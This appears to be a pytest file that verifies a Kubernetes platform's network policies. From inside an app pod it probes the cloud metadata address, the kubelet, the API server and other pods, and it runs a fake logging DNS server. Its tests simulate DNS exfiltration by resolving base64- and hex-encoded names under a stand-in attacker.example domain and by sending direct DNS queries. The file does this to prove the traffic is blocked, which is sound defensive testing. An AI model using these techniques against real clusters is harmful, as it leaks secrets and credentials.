"""What an app's pod can reach, found out by trying from inside it; a pod without policies shows that it could."""

from __future__ import annotations

import asyncio
import subprocess
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

pytestmark = pytest.mark.cluster

METADATA, INTERNET, PLATFORM = "169.254.169.254", "203.0.113.10", "203.0.113.20"
OUTSIDE = "havn-outside"
SERVER = "import http.server as h; h.ThreadingHTTPServer(('', 8080), h.SimpleHTTPRequestHandler).serve_forever()"
PROBE = Path(__file__).with_name("probe.py").read_text()
RESOLVE = """
import socket, sys
try:
    print(socket.gethostbyname(sys.argv[1]))
except OSError:
    print("unknown")
"""


def run(*command: str) -> None:
    subprocess.run(command, check=True, capture_output=True)


@pytest.fixture(scope="module")
def outside(kubernetes) -> Iterator[None]:
    """The internet, the platform and the metadata address, in a network namespace beside the cluster's."""
    inside = kubernetes.layout.namespace
    run("ip", "netns", "add", OUTSIDE)
    servers = []
    try:
        run("ip", "-n", inside, "link", "add", "outside", "type", "veth", "peer", "name", "eth0", "netns", OUTSIDE)
        run("ip", "-n", inside, "addr", "add", "203.0.113.1/24", "dev", "outside")
        run("ip", "-n", inside, "link", "set", "outside", "up")
        run("ip", "-n", inside, "route", "add", f"{METADATA}/32", "dev", "outside")
        for address in (f"{INTERNET}/24", f"{PLATFORM}/24", f"{METADATA}/32"):
            run("ip", "-n", OUTSIDE, "addr", "add", address, "dev", "eth0")
        for link in ("lo", "eth0"):
            run("ip", "-n", OUTSIDE, "link", "set", link, "up")
        run("ip", "-n", OUTSIDE, "route", "add", "default", "via", "203.0.113.1")
        servers.append(subprocess.Popen(["ip", "netns", "exec", OUTSIDE, "python3", "-c", SERVER]))
        yield
    finally:
        for server in servers:
            server.kill()
            server.wait()
        run("ip", "netns", "del", OUTSIDE)


@pytest.fixture
async def control(kubernetes, owner):
    """A pod in a namespace without policies, which listens on port 8080 too."""
    image = await owner.delivery.base()
    kubernetes.kubectl("create", "namespace", "open")
    pod = {
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "control", "namespace": "open"},
        "spec": {
            "terminationGracePeriodSeconds": 0,
            "containers": [{
                "name": "main", "image": f"{image.repository}@{image.digest}", "command": ["python3", "-c", SERVER],
            }],
        },
    }  # fmt: skip
    kubernetes.kubectl("apply", "-f", "-", text=msgspec.json.encode(pod).decode())
    await asyncio.to_thread(
        kubernetes.kubectl, "-n", "open", "wait", "--for=condition=Ready", "pod/control", "--timeout=60s"
    )
    yield "control"
    await asyncio.to_thread(kubernetes.kubectl, "delete", "namespace", "open", "--wait=true")


async def inside(kubernetes, pod: str, script: str, argument: str, namespace: str = "default") -> str:
    done = await asyncio.to_thread(
        kubernetes.kubectl, "-n", namespace, "exec", pod, "--", "python3", "-c", script, argument
    )
    return done.strip()


def address(kubernetes, pod: str, namespace: str = "default") -> str:
    return kubernetes.kubectl("-n", namespace, "get", "pod", pod, "-o", "jsonpath={.status.podIP}")


def service(kubernetes, name: str, namespace: str = "default") -> str:
    return kubernetes.kubectl("-n", namespace, "get", "service", name, "-o", "jsonpath={.spec.clusterIP}")


async def test_an_app_reaches_the_platform_and_cluster_names_and_nothing_else(kubernetes, owner, outside, control):
    values = {
        **owner.cluster.site.values,
        "networkPolicy": {"platformCidrs": [f"{PLATFORM}/32"], "platformPort": 8080},
    }
    cluster = owner.at(values)
    for app in ("first", "second"):
        await cluster.apply(owner.workload(app, await owner.release(app)))
    first, second = [status.actual[0].name for status in await cluster.apps()]
    targets = [
        ("other app", address(kubernetes, second), 5005),
        ("other app's address", service(kubernetes, "second"), 80),
        ("page for unknown addresses", service(kubernetes, "havn-unknown"), 80),
        ("pod elsewhere", address(kubernetes, control, "open"), 8080),
        ("API server", service(kubernetes, "kubernetes"), 443),
        ("API server's own address", kubernetes.address, 6443),
        ("kubelet", kubernetes.address, 10250),
        ("Traefik", kubernetes.address, 443),
        ("metadata", METADATA, 8080),
        ("internet", INTERNET, 8080),
        ("platform", PLATFORM, 8080),
    ]
    argument = msgspec.json.encode(targets).decode()
    reached = msgspec.json.decode(await inside(kubernetes, first, PROBE, argument))
    assert reached == ["platform"]
    # Each could be reached, had the pods no policy: not so the apps themselves, which let in the ingress alone.
    open_ = msgspec.json.decode(await inside(kubernetes, control, PROBE, argument, "open"))
    guarded = {"other app", "other app's address", "page for unknown addresses"}
    assert set(open_) == {name for name, _, _ in targets} - guarded
    assert (await owner.ask("/first/health")).status == 200

    assert await inside(kubernetes, first, RESOLVE, "kubernetes.default.svc.cluster.local") != "unknown"
    assert await inside(kubernetes, first, RESOLVE, "c2VjcmV0.attacker.example") == "unknown"
    for status in await cluster.apps():
        await cluster.remove(status.app)


DNS = """
import socket
asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asked.bind(("", 5353))
while True:
    message, address = asked.recvfrom(4096)
    place, labels = 12, []
    while message[place]:
        labels.append(message[place + 1 : place + 1 + message[place]].decode())
        place += message[place] + 1
    print(".".join(labels), flush=True)
    cluster = labels[-1:] == ["local"]
    wanted = message[place + 1 : place + 3] == b"\\0\\1" and not cluster
    head = message[:2] + (b"\\x81\\x83" if cluster else b"\\x81\\x80") + b"\\0\\1"
    head += (b"\\0\\1" if wanted else b"\\0\\0") + b"\\0\\0\\0\\0"
    record = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4" + socket.inet_aton("203.0.113.20")
    asked.sendto(head + message[12 : place + 5] + (record if wanted else b""), address)
"""
# A question of one's own making, past whatever the pod is set to.
DIRECT = """
import socket, sys
asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asked.settimeout(3)
asked.sendto(b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6direct\\7example\\0\\0\\1\\0\\1", (sys.argv[1], 53))
try:
    asked.recv(4096)
    print("answered")
except OSError:
    print("nothing")
"""


@pytest.fixture
async def dns(kubernetes, owner):
    """In place of the cluster's DNS, one that knows all the names of the internet; what it was asked."""
    image = await owner.delivery.base()
    pod = {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "test-dns", "namespace": "kube-system", "labels": {"k8s-app": "kube-dns"}},
        "spec": {
            "terminationGracePeriodSeconds": 0,
            "containers": [{
                "name": "main", "image": f"{image.repository}@{image.digest}", "command": ["python3", "-c", DNS],
            }],
        },
    }  # fmt: skip

    async def system(*arguments: str, text: str = "") -> str:
        return await asyncio.to_thread(kubernetes.kubectl, "-n", "kube-system", *arguments, text=text)

    await system("apply", "-f", "-", text=msgspec.json.encode(pod).decode())
    await system("wait", "--for=condition=Ready", "pod/test-dns", "--timeout=60s")
    await system("scale", "deployment/coredns", "--replicas=0")

    async def seen() -> set[str]:
        return set((await system("logs", "test-dns")).split())

    yield seen
    await system("delete", "pod", "test-dns")
    await system("scale", "deployment/coredns", "--replicas=1")
    await system("rollout", "status", "deployment/coredns", "--timeout=90s")


async def test_a_name_that_an_app_looks_up_does_not_leave_unless_it_is_the_platforms(kubernetes, owner, control, dns):
    status = await owner.cluster.apply(owner.workload("first", await owner.release("first")))
    pod = status.actual[0].name
    # Anybody else's names go out, by the pod's own settings and past them.
    while await inside(kubernetes, control, RESOLVE, "control.attacker.example", "open") != PLATFORM:
        pass
    server = service(kubernetes, "kube-dns", "kube-system")
    assert await inside(kubernetes, control, DIRECT, server, "open") == "answered"
    before = await dns()
    assert {"control.attacker.example", "direct.example"} <= before

    tunnelled = f"{'6e6f742d666f722d796f75' * 2}.{'7365637265742d64617461' * 2}.attacker.example"
    for name in ("www.example.com", tunnelled, "leak.platform.tt02.example.test", "cluster.local"):
        assert await inside(kubernetes, pod, RESOLVE, name) == "unknown"
    assert await inside(kubernetes, pod, DIRECT, server) == "nothing"
    assert await dns() - before <= {name for name in await dns() if name.endswith(".svc.cluster.local")}

    assert await inside(kubernetes, pod, RESOLVE, "platform.tt02.example.test") == PLATFORM
    assert "platform.tt02.example.test" in await dns() - before
